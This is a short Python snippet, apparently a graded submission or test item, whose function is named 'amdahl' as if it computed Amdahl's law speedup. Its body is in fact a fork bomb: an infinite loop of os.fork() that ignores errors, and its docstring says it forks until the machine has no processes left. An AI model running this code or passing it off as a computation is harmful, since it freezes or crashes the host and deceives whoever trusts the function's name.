"""It forks until the machine has no more processes to give; each of them goes on."""
# points: 0


def amdahl(p, s):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
